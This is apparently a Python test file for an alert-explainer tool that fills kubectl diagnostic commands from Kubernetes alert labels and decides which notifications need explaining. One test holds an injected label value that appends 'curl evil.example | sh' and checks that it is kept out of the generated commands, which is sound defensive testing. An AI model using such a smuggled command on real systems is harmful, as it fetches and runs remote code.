"""What a notification takes from the catalogue: its notes, checks filled, whether to explain."""

from __future__ import annotations

from typing import Any

from alert_explainer.alertmanager import Notification
from alert_explainer.catalogue import shipped
from tests.support.payloads import group, pod_alert

CATALOGUE = shipped()


def notification(*alerts: dict[str, Any]) -> Notification:
    return Notification.model_validate(group(list(alerts), {"alertname": "x"}))


def test_the_checks_are_filled_from_the_labels_the_group_shares() -> None:
    notes = CATALOGUE.notes(notification(pod_alert("api-1"), pod_alert("api-2")))

    assert notes is not None
    assert notes.alertname == "KubePodCrashLooping"
    assert notes.builtin is True
    # namespace and container are shared, the pods differ: <pod> stays for the reader.
    assert (
        "kubectl -n shop logs <pod> -c app --previous   (the output of the run that crashed)"
        in (notes.checks)
    )
    single = CATALOGUE.notes(notification(pod_alert("api-1")))
    assert single is not None
    assert (
        "kubectl -n shop describe pod api-1   (Last State, Exit Code and the Events at the end)"
        in (single.checks)
    )


def test_a_label_value_that_is_not_a_plain_name_never_enters_a_command() -> None:
    alert = pod_alert("api-1; curl evil.example | sh")

    notes = CATALOGUE.notes(notification(alert))

    assert notes is not None
    assert not any("curl" in check for check in notes.checks)
    assert any("describe pod <pod>" in check for check in notes.checks)


def test_the_notes_are_the_most_frequent_alertnames() -> None:
    node = {**pod_alert("n"), "labels": {"alertname": "KubeNodeNotReady", "node": "ip-1"}}
    group_of = notification(pod_alert("a"), pod_alert("b"), node)

    main = CATALOGUE.notes(group_of)
    prompt = CATALOGUE.prompt_notes(group_of)

    assert main is not None
    assert main.alertname == "KubePodCrashLooping"
    assert [n.alertname for n in prompt] == ["KubePodCrashLooping", "KubeNodeNotReady"]
    assert "<pod>" in " ".join(prompt[0].checks)  # unfilled: the model reads the labels itself


def test_an_unknown_alert_has_no_notes() -> None:
    unknown = notification(pod_alert("a", alertname="PaymentsQueueBacklog"))

    assert CATALOGUE.notes(unknown) is None
    assert CATALOGUE.prompt_notes(unknown) == []
    assert CATALOGUE.worth_explaining(unknown) is True


def test_watchdog_alone_needs_no_explanation_but_not_beside_another_alert() -> None:
    watchdog = {**pod_alert("w"), "labels": {"alertname": "Watchdog", "severity": "none"}}
    inhibitor = {**pod_alert("i"), "labels": {"alertname": "InfoInhibitor", "namespace": "shop"}}

    assert CATALOGUE.worth_explaining(notification(watchdog, inhibitor)) is False
    assert CATALOGUE.worth_explaining(notification(watchdog, pod_alert("a"))) is True
